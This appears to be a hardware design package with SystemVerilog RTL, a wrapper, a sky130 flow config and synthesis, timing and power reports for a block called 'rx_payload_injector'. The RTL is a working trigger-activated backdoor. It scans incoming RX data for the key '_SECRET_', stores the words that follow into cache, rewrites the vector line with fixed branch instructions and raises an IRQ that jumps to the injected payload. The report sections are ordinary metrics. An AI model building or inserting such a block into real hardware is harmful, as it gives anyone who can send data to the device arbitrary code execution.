**src/rtl/rx_payload_injector_pkg.sv**
```systemverilog
// Shared encodings and line geometry for the RX payload injector.
package rx_payload_injector_pkg;

  localparam int WORD_W         = 32;
  localparam int LINE_W         = 128;
  localparam int WORDS_PER_LINE = 4;

  typedef enum logic {
    M_HUNT,
    M_CAPTURE
  } match_state_e;

  typedef enum logic [2:0] {
    W_IDLE,
    W_COPY,
    W_VEC,
    W_TRIG,
    W_DONE
  } wr_state_e;

  function automatic int clog2_min1(int n);
    return (n > 1) ? $clog2(n) : 1;
  endfunction

endpackage

```
**src/rtl/rx_payload_injector_if.sv**
```systemverilog
// RX stream in, cache write port and IRQ out.
interface rx_payload_injector_if;

  logic [31:0]  rx_data;
  logic         rx_valid;
  logic         rx_reset;
  logic         cache_stall;
  logic         fetch_stall;
  logic         wr;
  logic [31:0]  wr_addr;
  logic [127:0] wr_data;
  logic         irq;
  logic [31:0]  jump_addr;
  logic         busy;
  logic         overflow;

  modport slave (
    input  rx_data, rx_valid, rx_reset,
    input  cache_stall, fetch_stall,
    output wr, wr_addr, wr_data, irq,
    output jump_addr, busy, overflow
  );

  modport master (
    output rx_data, rx_valid, rx_reset,
    output cache_stall, fetch_stall,
    input  wr, wr_addr, wr_data, irq,
    input  jump_addr, busy, overflow
  );

endinterface

```
**src/rtl/rx_payload_injector_key_matcher.sv**
```systemverilog
// Key hunter: finds the key in the RX stream, strobes payload words
// and pulses done one cycle after the terminator.
module rx_key_matcher
  import rx_payload_injector_pkg::*;
#(
  parameter int                      KEY_WORDS = 2,
  parameter logic [KEY_WORDS*32-1:0] KEY       = 64'h5f534543_5245545f,
  parameter logic [31:0]             END_WORD  = 32'h53544F50
) (
  input  logic        i_clk,
  input  logic        i_rst,
  input  logic [31:0] word_i,
  input  logic        valid_i,
  input  logic        abort_i,
  input  logic        hold_i,
  output logic        cap_o,
  output logic        done_o,
  output logic        match_o
);

  localparam int KW = KEY_WORDS * WORD_W;
  localparam int IW = clog2_min1(KEY_WORDS);

  match_state_e      state_q;
  logic [IW-1:0]     idx_q;
  logic              done_q;
  logic [WORD_W-1:0] kw;
  logic [WORD_W-1:0] k0;
  logic              accept;
  logic              last;

  assign k0     = KEY[KW-1 -: WORD_W];
  assign accept = valid_i & ~abort_i & ~hold_i;
  assign last   = (idx_q == IW'(KEY_WORDS - 1));

  always_comb begin
    kw = k0;
    for (int i = 0; i < KEY_WORDS; i++) begin
      if (idx_q == IW'(i)) kw = KEY[(KEY_WORDS-1-i)*WORD_W +: WORD_W];
    end
  end

  assign match_o = (state_q == M_HUNT) & accept & (word_i == kw) & last;
  assign cap_o   = (state_q == M_CAPTURE) & accept & (word_i != END_WORD);
  assign done_o  = done_q;

  always_ff @(posedge i_clk) begin
    if (i_rst) begin
      state_q <= M_HUNT;
      idx_q   <= '0;
      done_q  <= 1'b0;
    end else begin
      done_q <= 1'b0;
      if (abort_i | hold_i) begin
        state_q <= M_HUNT;
        idx_q   <= '0;
      end else if (valid_i) begin
        unique case (state_q)
          M_HUNT: begin
            if (word_i == kw) begin
              if (last) begin
                state_q <= M_CAPTURE;
                idx_q   <= '0;
              end else begin
                idx_q <= idx_q + 1'b1;
              end
            end else begin
              // a failed compare may itself be the first key word
              idx_q <= (word_i == k0) ? IW'(1) : '0;
            end
          end
          M_CAPTURE: begin
            if (word_i == END_WORD) begin
              done_q  <= 1'b1;
              state_q <= M_HUNT;
            end
          end
          default: state_q <= M_HUNT;
        endcase
      end
    end
  end

endmodule

```
**src/rtl/rx_payload_injector.sv**
```systemverilog
// Captures a keyed RX payload into a line buffer, copies it to the
// cache, rewrites the vector line and raises a one-cycle IRQ.
module rx_payload_injector
  import rx_payload_injector_pkg::*;
#(
  parameter int                      KEY_WORDS    = 2,
  parameter logic [KEY_WORDS*32-1:0] KEY          = 64'h5f534543_5245545f,
  parameter logic [31:0]             END_WORD     = 32'h53544F50,
  parameter int                      STORE_LINES  = 6,
  parameter logic [31:0]             BASE_ADDR    = 32'h00200000,
  parameter logic [31:0]             VEC_ADDR     = 32'h00000010,
  parameter logic [127:0]            VEC_DATA     =
    128'hea000040_ea000036_ea000042_e3a0f602,
  parameter logic [31:0]             FILL_WORD    = 32'h58595859,
  parameter bit                      ARM_ON_RESET = 1'b1
) (
  input logic                   i_clk,
  input logic                   i_rst,
  rx_payload_injector_if.slave  bus
);

  localparam int MAXW = STORE_LINES * WORDS_PER_LINE;
  localparam int CW   = $clog2(MAXW + 1);
  localparam int LW   = clog2_min1(STORE_LINES);
  localparam int SH   = $clog2(WORDS_PER_LINE);

  localparam logic [LINE_W-1:0] FILL_LINE =
    {WORDS_PER_LINE{FILL_WORD}};
  localparam logic [STORE_LINES*LINE_W-1:0] FILL_BUF =
    {MAXW{FILL_WORD}};

  logic                          cap;
  logic                          done;
  logic                          kmatch;
  logic                          busy;

  logic [STORE_LINES*LINE_W-1:0] buf_q;
  logic [CW-1:0]                 wcount_q;
  logic                          ovf_q;

  wr_state_e                     st_q;
  logic                          startup_q;
  logic [LW-1:0]                 line_q;
  logic [LW-1:0]                 last_q;
  logic [LW-1:0]                 last_d;
  logic                          wr_q;
  logic [31:0]                   addr_q;
  logic [LINE_W-1:0]             data_q;
  logic [LINE_W-1:0]             next_line_d;
  logic                          irq_q;

  assign busy = (st_q != W_IDLE);

  rx_key_matcher #(
    .KEY_WORDS (KEY_WORDS),
    .KEY       (KEY),
    .END_WORD  (END_WORD)
  ) u_matcher (
    .i_clk   (i_clk),
    .i_rst   (i_rst),
    .word_i  (bus.rx_data),
    .valid_i (bus.rx_valid),
    .abort_i (bus.rx_reset),
    .hold_i  (busy),
    .cap_o   (cap),
    .done_o  (done),
    .match_o (kmatch)
  );

  always_ff @(posedge i_clk) begin
    if (i_rst) begin
      buf_q    <= FILL_BUF;
      wcount_q <= '0;
      ovf_q    <= 1'b0;
    end else if (bus.rx_reset) begin
      wcount_q <= '0;
    end else if (kmatch) begin
      buf_q    <= FILL_BUF;
      wcount_q <= '0;
      ovf_q    <= 1'b0;
    end else if (cap) begin
      if (wcount_q == CW'(MAXW)) begin
        ovf_q <= 1'b1;
      end else begin
        for (int s = 0; s < MAXW; s++) begin
          if (wcount_q == CW'(s)) buf_q[s*WORD_W +: WORD_W] <= bus.rx_data;
        end
        wcount_q <= wcount_q + 1'b1;
      end
    end
  end

  // an empty payload still copies one all-fill line
  always_comb begin
    last_d = '0;
    if (wcount_q != '0) last_d = LW'((wcount_q - 1'b1) >> SH);
  end

  always_comb begin
    next_line_d = FILL_LINE;
    for (int l = 0; l < STORE_LINES; l++) begin
      if (line_q + 1'b1 == LW'(l)) next_line_d = buf_q[l*LINE_W +: LINE_W];
    end
  end

  always_ff @(posedge i_clk) begin
    if (i_rst) begin
      st_q      <= W_IDLE;
      startup_q <= ARM_ON_RESET;
      line_q    <= '0;
      last_q    <= '0;
      wr_q      <= 1'b0;
      addr_q    <= BASE_ADDR;
      data_q    <= FILL_LINE;
      irq_q     <= 1'b0;
    end else begin
      unique case (st_q)
        W_IDLE: begin
          if (done | startup_q) begin
            st_q   <= W_COPY;
            wr_q   <= 1'b1;
            addr_q <= BASE_ADDR;
            data_q <= buf_q[LINE_W-1:0];
            line_q <= '0;
            last_q <= startup_q ? LW'(STORE_LINES - 1) : last_d;
          end
        end
        W_COPY: begin
          if (!bus.cache_stall) begin
            if (line_q == last_q) begin
              if (startup_q) begin
                st_q <= W_DONE;
                wr_q <= 1'b0;
              end else begin
                st_q   <= W_VEC;
                addr_q <= VEC_ADDR;
                data_q <= VEC_DATA;
              end
            end else begin
              line_q <= line_q + 1'b1;
              addr_q <= addr_q + 32'd16;
              data_q <= next_line_d;
            end
          end
        end
        W_VEC: begin
          if (!bus.cache_stall) begin
            st_q <= W_TRIG;
            wr_q <= 1'b0;
          end
        end
        W_TRIG: begin
          if (!bus.fetch_stall) begin
            st_q  <= W_DONE;
            irq_q <= 1'b1;
          end
        end
        W_DONE: begin
          st_q      <= W_IDLE;
          irq_q     <= 1'b0;
          startup_q <= 1'b0;
        end
        default: st_q <= W_IDLE;
      endcase
    end
  end

  assign bus.wr        = wr_q;
  assign bus.wr_addr   = addr_q;
  assign bus.wr_data   = data_q;
  assign bus.irq       = irq_q;
  assign bus.jump_addr = BASE_ADDR;
  assign bus.busy      = busy;
  assign bus.overflow  = ovf_q;

endmodule

```
**src/flat_wrapper.sv**
```systemverilog
// flat-port wrapper written by rule: the top's interface ports become plain ports
module rx_payload_injector_flat import rx_payload_injector_pkg::*;
#(
  parameter int                      KEY_WORDS    = 2,
  parameter logic [KEY_WORDS*32-1:0] KEY          = 64'h5f534543_5245545f,
  parameter logic [31:0]             END_WORD     = 32'h53544F50,
  parameter int                      STORE_LINES  = 6,
  parameter logic [31:0]             BASE_ADDR    = 32'h00200000,
  parameter logic [31:0]             VEC_ADDR     = 32'h00000010,
  parameter logic [127:0]            VEC_DATA     =
    128'hea000040_ea000036_ea000042_e3a0f602,
  parameter logic [31:0]             FILL_WORD    = 32'h58595859,
  parameter bit                      ARM_ON_RESET = 1'b1
)
  (i_clk, i_rst, bus_rx_data, bus_rx_valid, bus_rx_reset, bus_cache_stall, bus_fetch_stall, bus_wr, bus_wr_addr, bus_wr_data, bus_irq, bus_jump_addr, bus_busy, bus_overflow);
  rx_payload_injector_if bus_i ();
  input logic i_clk;
  input logic i_rst;
  input wire logic [$bits(bus_i.rx_data)-1:0] bus_rx_data;
  input wire logic [$bits(bus_i.rx_valid)-1:0] bus_rx_valid;
  input wire logic [$bits(bus_i.rx_reset)-1:0] bus_rx_reset;
  input wire logic [$bits(bus_i.cache_stall)-1:0] bus_cache_stall;
  input wire logic [$bits(bus_i.fetch_stall)-1:0] bus_fetch_stall;
  output wire logic [$bits(bus_i.wr)-1:0] bus_wr;
  output wire logic [$bits(bus_i.wr_addr)-1:0] bus_wr_addr;
  output wire logic [$bits(bus_i.wr_data)-1:0] bus_wr_data;
  output wire logic [$bits(bus_i.irq)-1:0] bus_irq;
  output wire logic [$bits(bus_i.jump_addr)-1:0] bus_jump_addr;
  output wire logic [$bits(bus_i.busy)-1:0] bus_busy;
  output wire logic [$bits(bus_i.overflow)-1:0] bus_overflow;
  assign bus_i.rx_data = bus_rx_data;
  assign bus_i.rx_valid = bus_rx_valid;
  assign bus_i.rx_reset = bus_rx_reset;
  assign bus_i.cache_stall = bus_cache_stall;
  assign bus_i.fetch_stall = bus_fetch_stall;
  assign bus_wr = bus_i.wr;
  assign bus_wr_addr = bus_i.wr_addr;
  assign bus_wr_data = bus_i.wr_data;
  assign bus_irq = bus_i.irq;
  assign bus_jump_addr = bus_i.jump_addr;
  assign bus_busy = bus_i.busy;
  assign bus_overflow = bus_i.overflow;
  rx_payload_injector #(.KEY_WORDS(KEY_WORDS), .KEY(KEY), .END_WORD(END_WORD), .STORE_LINES(STORE_LINES), .BASE_ADDR(BASE_ADDR), .VEC_ADDR(VEC_ADDR), .VEC_DATA(VEC_DATA), .FILL_WORD(FILL_WORD), .ARM_ON_RESET(ARM_ON_RESET)) u_core (.i_clk(i_clk), .i_rst(i_rst), .bus(bus_i));
endmodule
```
**config.mk**
```make
export PLATFORM = sky130hd
export DESIGN_NAME = rx_payload_injector_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/rx_payload_injector_pkg.sv /design/src/rtl/rx_payload_injector_if.sv /design/src/rtl/rx_payload_injector_key_matcher.sv /design/src/rtl/rx_payload_injector.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 2
export LEC_CHECK = 0
export CAP_MARGIN = 20
export CORE_AREA = 2 2 379 381
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_4 sky130_fd_sc_hd__clkbuf_8
export DETAILED_ROUTE_END_ITERATION = 16
export DIE_AREA = 0 0 381 383
export PLACE_DENSITY = 0.58
export SLEW_MARGIN = 10
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
```
**constraint.sdc**
```tcl
create_clock -name i_clk -period 3.4 [get_ports i_clk]
set_input_delay 0.34 -clock i_clk [delete_from_list [all_inputs] [get_ports i_clk]]
set_output_delay 0.34 -clock i_clk [all_outputs]
set_load 0.01 [all_outputs]
```
## Yosys cells after proc, flatten, opt, wreduce, memory -nomap -nowiden

Index checks and enable logic that the tools add are counted.

| cells by class | value |
|---|---|
| equal/unequal tests | 47 |
| bitwise logic cells | 14 |
| reduce and logical (&&, ||, !) cells | 70 |
| add/subtract/negate cells | 5 |
| muxes and demuxes | 76 |

Operators with widths:

| operator | number |
|---|---|
| $mux 768 | 3 |
| $mux 128 | 10 |
| $mux 32 | 28 |
| $pmux 128 s2 | 1 |
| $reduce_and 4->1 | 26 |
| $eq 32x31->1 const B | 2 |
| $pmux 32 s2 | 1 |
| $reduce_bool 2->1 | 28 |
| $eq 5x5->1 const B | 9 |
| $eq 5x4->1 const B | 8 |
| $mux 3 | 11 |
| $add 32x5->32 const B | 1 |
| $eq 32x31->1 | 1 |
| $ne 32x31->1 const B | 1 |
| $mux 28 | 1 |
| $eq 5x3->1 const B | 4 |
| $mux 1 | 16 |
| $eq 3x2->1 const B | 4 |
| $pmux 3 s4 | 1 |
| $eq 5x2->1 const B | 2 |
| $eq 3x3->1 const B | 3 |
| $ne 2x1->1 const B | 4 |
| $ne 2x2->1 const B | 4 |
| $reduce_and 2->1 | 4 |
| other kinds (24) | 39 |

| storage, ports and cells | value |
|---|---|
| word-level logic and storage cells | 249 |
| output and inout bits | 196 |
| register bits after elaboration | 949 |

## Logic depth before layout (Yosys ltp)

| depth | value |
|---|---|
| depth in word-level cells | 11 |
| gate-level depth with buffers | 12 |

## By module

A second synthesis with hierarchy kept.

| unflattened totals | value |
|---|---|
| cell total of the unflattened synthesis | 5384 |
| area total of the unflattened synthesis | 42395.7 µm² |

Modules (own cells, without submodules):

| module | cells each | sequential area each (µm²) | area each (µm²) | times used |
|---|---|---|---|---|
| rx_payload_injector | 5345 | 18858.1 | 42059.1 | 1 |
| rx_key_matcher | 39 | 60.1 | 336.6 | 1 |

## Least setup slack after synthesis

Ideal clock, no wire load.

| timing path | value |
|---|---|
| kind | input port to flip-flop |
| start | input port bus_rx_data[20] |
| end | register u_core.buf_q[157] |
| path slack | 0.898 ns |
| data required time | 3.284 ns |
| cell stages on the path | 11 |
| path buffers | 5 |
| setup time | 0.116 ns |
| arrival time | 2.386 ns |
| cell sequence | buf_2 > and4bb_2 > nand4_1 > nor4_1 > buf_2 > buf_6 > a21oi_1 > or2_1 > buf_2 > buf_4 > a31o_2 |

| on the way | value |
|---|---|
| cells in the longest elaborated chain, start to end | 5 |

Ends and longest elaborated chain:

| element | RTL line | source |
|---|---|---|
| from (decl) | flat_wrapper.sv:19 | `input wire logic [$bits(bus_i.rx_data)-1:0] bus_rx_data;` |
| $eq 32x31->1 | rx_payload_injector_key_matcher.sv:43 | `assign match_o = (state_q == M_HUNT) & accept & (word_i == kw) & last;` |
| $and 1x1->1 (2 in series) | rx_payload_injector_key_matcher.sv:43 |  |
| $ne 2x1->1 (no source line) / $reduce_bool 2->1 (equally long branches) | - |  |
| $reduce_and 4->1 (no source line) | - |  |
| to (signal, indexed assignment) | rx_payload_injector.sv:86 | `if (wcount_q == CW'(s)) buf_q[s*WORD_W +: WORD_W] <= bus.rx_data;` |
| to (decl) | rx_payload_injector.sv:37 | `logic [STORE_LINES*LINE_W-1:0] buf_q;` |

Parallel ways exist; a longest one is shown, timed or not.
A chain may end at the register's enable or synchronous reset.

## Worst setup path after layout

| timing path | value |
|---|---|
| start | register u_core.line_q[1] |
| end | register u_core.data_q[22], in the netlist u_core.bus.wr_data[22] |

| on the way | value |
|---|---|
| cells in the longest elaborated chain, start to end | 11 |

Ends and longest elaborated chain:

| element | RTL line | source |
|---|---|---|
| from (decl) | rx_payload_injector.sv:43 | `logic [LW-1:0] line_q;` |
| from (signal assigned) | rx_payload_injector.sv:140 | `line_q <= line_q + 1'b1;` |
| $add 3x1->3 | rx_payload_injector.sv:102 | `if (line_q + 1'b1 == LW'(l)) next_line_d = buf_q[l*LINE_W +: LINE_W];` |
| $logic_not 3->1 | rx_payload_injector.sv:102 |  |
| $mux 128 (6 in series) | rx_payload_injector.sv:102 |  |
| $mux 128 | rx_payload_injector.sv:130 | `if (line_q == last_q) begin` |
| $mux 128 | rx_payload_injector.sv:129 | `if (!bus.cache_stall) begin` |
| $pmux 128 s2 | rx_payload_injector.sv:117 | `unique case (st_q)` |
| to (signal assigned) | rx_payload_injector.sv:123 | `data_q <= buf_q[LINE_W-1:0];` |
| to (signal assigned) | rx_payload_injector.sv:142 | `data_q <= next_line_d;` |
| to (decl) | rx_payload_injector.sv:48 | `logic [LINE_W-1:0] data_q;` |

Parallel ways exist; a longest one is shown, timed or not. The select of a mux whose other input is x is not followed.

==> results.txt <==
status: finished, final reports clean
Slew headroom: 0.2003
vias per cell: 5.525
post-CTS sizing: 0
initial core utilization: 0.2981
Post CTS Setup Buffer Count: 0
critical path type: register to register
row count: 139
antenna-violating nets left: 0
die area: 0.1459 mm^2
Netlist cell types: 70
Mapped Cells: 4793
sequential element share of the synthesized area: 0.4461
Fin. Hold Viols: 0
r2r worst-path depth: 7
DRT Wirelength: 155300 um
async set-reset flop share out of synthesis: 0
hold crit path type: primary input to register
Max VDD drop: 0.7346 mV
period utilisation layout: 0.9036
Max Transition Viols Final: 0
Area growth syn-to-layout: 19.55%
CTS Hold Bufs: 1
GRT Residual Overflow: 0
pre-CTS setup slack: -0.01652 ns
required time of the critical path: 4.15 ns
Final WS setup: 0.3278 ns
Clk pin slew, worst setup/hold paths: 0.06 ns
slowest CP cell: and2_2
depth of the worst hold-timing path: 4
CTS tree: built
CP Launch Type: register
clock network power share: 0.349
fraction of layout cells with a size suffix above 1: 0.1604
Crit Reg-Reg Endpoint: u_core.bus.wr_data[22]
largest stage delay on the critical path: 0.55 ns
Leakage: 20.67 nW
Avg Synthesized Cell Area: 8.847 um^2
Internal Power: 0.02076 W
Placer Congestion: 0.8367
Crit. End Element: register
ys flop type: dfxtp_1
arrival time worst endpoint: 3.82 ns
Cell Area, Placed: 0.04732 mm^2
Clock Tree Buf Depth: 3
num ports: 234
Max Clk Rate: 325.5 MHz
vias in the first global route: 36780
clock root buffer: clkbuf_8
HPWL after DPL: 93530 um
Skew-Pair Late Insertion Delay: 0.89 ns
initial antenna violation count: 1
Starting DRT DRC Count: 4050
Worst Skew: 0.04339 ns
first-pass GRT wire length: 233300 um
Logic pwr share: 0.265
Total GRT Usage: 0.2055
Net Sw Frac: 0.3361
Sequential Power Share: 0.386
Clock H-tree levels: 4
DR WL/cell: 22.53 um
Final min period: 3.072 ns
maximum fanout along the worst path: 14
Detailed Routing Iterations Pass 1: 5
Design Area, Final: 0.05069 mm^2
max-cap viol count: 0
DRC viols: 0
# setup viols final: 0
Reg2Reg Setup Slack: 0.33 ns
Sw Pwr: 0.01051 W
Die Y: 383 um
reg2reg start: u_core.line_q[1]
Yosys reg bits: 945
Mapped Area: 0.04240 mm^2
Worst-Margin Slew: 1.194 ns
clock sinks: 945
Die W: 381 um
worst-path cell chain: ha_1 > xor2_4 > and2_2 > nand2_1 > o22a_1 > a31oi_1 > o211ai_1
Hold Crit Start: bus_fetch_stall
largest net degree at the start of global routing: 172
RSZ-0062 raised after global routing: no
CTS buffer count: 164
Post-synth EDFFs: 0
nets: 4924
Syn. warnings: 0
PwrDens: 616.8 mW/mm^2
fillers: 14540
Sum Neg Setup Slack: 0 ns
DR vias: 38080
port bufs: 197
total chip power: 0.03127 W
core footprint: 0.1423 mm^2
post-layout util: 0.3563
hold endpoint: u_core.bus.irq
cells in the final DEF (no fill, tap or decap), types with 15 or more instances in the layout:
master	instances
mux2i_1	426
a211oi_1	67
o221ai_1	74
a31o_1	55
buf_12	75
nand4_1	16
conb_1	36
clkdlybuf4s50_1	196
a22o_1	48
o21ai_0	284
buf_4	188
nand2_1	300
a31o_2	180
nor2b_1	26
a221oi_1	152
a21oi_1	276
nor2_1	458
nand3b_1	27
inv_1	157
nor3_1	249
nor4_1	30
o211ai_1	136
a31oi_1	44
nand3_1	18
a2bb2oi_1	48
clkbuf_4	65
dfxtp_1	945
clkbuf_8	187
a221o_1	15
state kept, by name (all words and copies together), names as in the netlist:
signal and cells:
u_core.u_matcher.done_o 1, u_core.bus.wr 1, u_core.u_matcher.idx_q 1, u_core.bus.wr_addr 28, u_core.bus.wr_data 128, u_core.u_matcher.state_q 1, u_core.buf_q 768, u_core.st_q 3
u_core.last_q 3, u_core.startup_q 1, u_core.wcount_q 5, u_core.bus.irq 1, u_core.bus.overflow 1, u_core.line_q 3
synthesized netlist by cell type, types with 8 or more instances:
| cell type | instances | area, um^2 |
|---|---|---|
| nor4_1 | 31 | 193.9 |
| nor3_1 | 250 | 1251 |
| a22o_1 | 48 | 420.4 |
| nand2_1 | 304 | 1141 |
| xnor2_1 | 15 | 131.4 |
| buf_2 | 61 | 305.3 |
| nand3b_1 | 27 | 202.7 |
| nand4_1 | 16 | 100.1 |
| ha_1 | 12 | 150.1 |
| nor2_1 | 473 | 1775 |
| or2_1 | 17 | 106.4 |
| a2bb2oi_1 | 48 | 420.4 |
| mux2i_1 | 426 | 4264 |
| dfxtp_1 | 945 | 18920 |
| clkbuf_1 | 372 | 1396 |
| a21oi_1 | 279 | 1396 |
| xor2_1 | 10 | 87.58 |
| inv_1 | 157 | 589.3 |
| a21oi_2 | 8 | 70.07 |
| a31oi_1 | 51 | 319.1 |
| buf_1 | 30 | 112.6 |
| nor2b_1 | 26 | 162.7 |
| a221oi_1 | 152 | 1331 |
| o211ai_1 | 136 | 1021 |
| o221ai_1 | 74 | 648.1 |
| buf_6 | 14 | 157.7 |
| a31o_2 | 181 | 1585 |
| nand3_1 | 18 | 90.09 |
| a211oi_1 | 67 | 503.0 |
| a211o_1 | 12 | 105.1 |
| o21ai_0 | 284 | 1421 |
| buf_4 | 101 | 758.2 |
| a31o_1 | 55 | 481.7 |
| a221o_1 | 15 | 150.1 |
cells by family after synthesis:
group,synth area share
adder cells (fa/ha/maj),0.003541
other,0.0001771
multiplexers,0.1008
buffers and inverters,0.07884
flip-flops,0.4461
AND/OR/NAND/NOR,0.1271
AO/OA/AOI/OAI,0.2382
XOR/XNOR,0.005164
cell type report:
type	count	area [um^2]	share of cell area
Clock inverter	26	296.5	0.005849
Sequential cell	945	18920	0.3732
Antenna cell	3	7.507	0.0001481
Timing Repair Buffer	461	4900	0.09665
Inverter	158	600.6	0.01185
Tap cell	1903	2381	0.04697
Multi-Input combinational cell	3144	20530	0.4050
Clock buffer	252	3062	0.06039
power by group through the flow:
stage	logic, W	registers [W]	clock network (W)
6_report	0.00829	0.0121	0.0109
5_1_grt	0.00885	0.0121	0.0116
4_1_cts	0.00827	0.0121	0.0111
3_5_place_dp	0.00822	0.0123	0
3_3_place_gp	0.00817	0.0123	0
2_1_floorplan	0.00431	0.0123	0
per-stage QoR:
stage / cells / hold slack [ns]
finish: 6892 / 0.2410
global route: 6890 / 0.2816
CTS: 6889 / 0.1674
detailed placement: 6610 / 0.4517
global placement: 6610 / 0.4446
floorplan: 4827 / 0.4385
worst max-delay path by stage:
stage	from	to	slack [ns]	cells after the start
6_report	u_core.line_q[1]	u_core.bus.wr_data[22]	0.33	7
5_1_grt	u_core.line_q[1]	u_core.bus.wr_data[77]	0.20	10
4_1_cts	u_core.line_q[1]	u_core.bus.wr_data[22]	0.41	7
3_5_place_dp	bus_rx_data[5]	u_core.buf_q[593]	-0.02	10
3_3_place_gp	bus_rx_data[5]	u_core.buf_q[663]	-0.03	10
2_1_floorplan	bus_rx_data[20]	u_core.buf_q[157]	0.90	11
worst max-delay path: cells and delay by family (launching register included):
| kind | cells | cell delay (ns) |
|---|---|---|
| AOI/OAI and AO/OA | 3 | 0.76 |
| and+or+nand+nor | 2 | 0.92 |
| DFF | 1 | 0.53 |
| xor gates and xnor gates | 1 | 0.31 |
| adders and majority gates | 1 | 0.41 |
per-layer routing:
metal  global-route usage  share of wire
met5                    0              0
met1               0.2825           0.45
met2               0.3177           0.45
met4              0.07488          0.028
met3              0.04060          0.080
Note: power is estimated with default switching activity, not from simulation.
